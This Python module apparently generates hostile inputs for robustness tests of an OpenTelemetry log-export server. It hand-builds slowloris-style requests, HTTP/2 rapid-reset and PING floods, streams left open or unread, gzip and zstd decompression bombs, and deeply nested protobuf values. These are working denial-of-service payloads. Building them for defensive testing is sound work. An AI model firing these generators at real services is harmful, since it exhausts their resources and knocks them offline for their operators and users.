"""Bytes that attackers send: requests that never end, HTTP/2 frames by hand (RFC 9113), things that unpack to much more."""

import gzip
import itertools
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
END_HEADERS = 4

EXPORT = "/opentelemetry.proto.collector.logs.v1.LogsService/Export"

# Decompressed length of a bomb: what an exporter could never mean.
BOMB_BYTES = 512 << 20


def frame(kind, stream, payload=b"", flags=0):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def headers(stream, path, more=(), method="POST", flags=END_HEADERS):
    """A HEADERS frame that begins a request and does not end it: literals without indexing (RFC 7541 6.2.2)."""
    block = b""
    for name, value in [(":method", method), (":scheme", "http"), (":path", path), (":authority", "a"), *more]:
        block += b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    return frame(HEADERS, stream, block, flags)


GRPC = [("content-type", "application/grpc"), ("te", "trailers")]


# Digits in HPACK's Huffman code (RFC 7541 appendix B), and `grpc-status` in it, as an answer has it.
DIGITS = "00000 00001 00010 011001 011010 011011 011100 011101 011110 011111".split()
GRPC_STATUS = bytes.fromhex("889acac8b21234da8f")


def hpack_status(code):
    """The header `grpc-status` with this value."""
    bits = "".join(DIGITS[int(digit)] for digit in str(code))
    bits += "1" * (-len(bits) % 8)
    value = int(bits, 2).to_bytes(len(bits) // 8)
    return GRPC_STATUS + bytes([0x80 | len(value)]) + value


def dribbled(begin, random, fill=b"a"):
    """What begins like this and goes on for ever, byte by byte."""
    yield begin
    while True:
        yield random.choice(fill).to_bytes()


def head(random, path):
    return dribbled(f"POST {path} HTTP/1.1\r\nhost: a\r\nx-slow: ".encode(), random)


def body(random, path, kind, length):
    begin = f"POST {path} HTTP/1.1\r\nhost: a\r\ncontent-type: {kind}\r\ncontent-length: {length}\r\n\r\n"
    # Some of it comes at once, so that memory is held.
    return dribbled(begin.encode() + bytes(random.randrange(64 << 10)), random)


def chunked(random, path, kind):
    begin = f"POST {path} HTTP/1.1\r\nhost: a\r\ncontent-type: {kind}\r\ntransfer-encoding: chunked\r\n\r\n"
    yield begin.encode()
    while True:
        yield b"1\r\na\r\n"


def silent(random):
    yield b""


def preface(random):
    yield b"PRI * HTTP/2.0\r\n"
    for byte in b"\r\nSM\r\n":
        yield byte.to_bytes()


def settings(random):
    yield PREFACE + frame(SETTINGS, 0)
    while True:
        yield b""


def pings(random):
    yield PREFACE + frame(SETTINGS, 0)
    while True:
        yield frame(PING, 0, random.randbytes(8))


def streams(random, path, more):
    """Opens all streams it may and ends none; a byte of a body now and then, under each compression."""
    yield PREFACE + frame(SETTINGS, 0)
    begun = b""
    for stream in range(1, 33, 2):
        coding = random.choice(["identity", "gzip", "zstd"])
        begun += headers(stream, path, [*more, ("grpc-encoding", coding)])
        if random.random() < 0.5:
            begun += frame(DATA, stream, bytes([coding != "identity"]) + struct.pack(">I", 1 << 20))
    yield begun
    while True:
        yield frame(DATA, 2 * random.randrange(16) + 1, b"\x28" if random.random() < 0.5 else b"\x1f")


def resets(random, path, more):
    """Begins requests and takes them back, many at a time."""
    yield PREFACE + frame(SETTINGS, 0)
    for number in itertools.count():
        streams = range(40 * number + 1, 40 * number + 41, 2)
        yield b"".join(headers(s, path, more) + frame(RST_STREAM, s, struct.pack(">I", 8)) for s in streams)


def unread(random, path):
    """Asks for much, again and again, and reads none of it."""
    request = f"GET {path} HTTP/1.1\r\nhost: a\r\n\r\n".encode()
    while True:
        yield 20 * request


def unread_streams(random, path):
    """The same over HTTP/2: room for all of it, many at a time."""
    window = (1 << 31) - 1
    yield PREFACE + frame(SETTINGS, 0, struct.pack(">HI", 4, window)) + frame(WINDOW_UPDATE, 0, struct.pack(">I", window - 65_535))
    for number in itertools.count():
        yield b"".join(headers(2 * (8 * number + n) + 1, path, method="GET", flags=5) for n in range(8))


def gzip_bomb(length=BOMB_BYTES):
    zeros = bytes(1 << 20)
    packer = gzip.zlib.compressobj(9, wbits=31)
    return b"".join(packer.compress(zeros) for _ in range(length >> 20)) + packer.flush()


def zstd_bomb(length=BOMB_BYTES):
    """Blocks of one byte repeated (RFC 8878 3.1.1.2): 4 bytes for 128 KiB."""
    block = 128 << 10
    begin = b"\x28\xb5\x2f\xfd" + b"\x00" + b"\x48"
    count = length // block
    rle = lambda last: ((block << 3) | 2 | last).to_bytes(3, "little") + b"\x00"
    return begin + rle(0) * (count - 1) + rle(1)


def nested_any_value(depth):
    """An AnyValue in protobuf, an array in an array in an array: field 5, an ArrayValue with field 1."""
    value = b"\x0a\x01a"
    for _ in range(depth):
        if len(value) > 1 << 20:
            break
        for tag in (b"\x0a", b"\x2a"):
            length, size = bytearray(), len(value)
            while size > 0x7F:
                length.append(size & 0x7F | 0x80)
                size >>= 7
            length.append(size)
            value = tag + bytes(length) + value
    return value
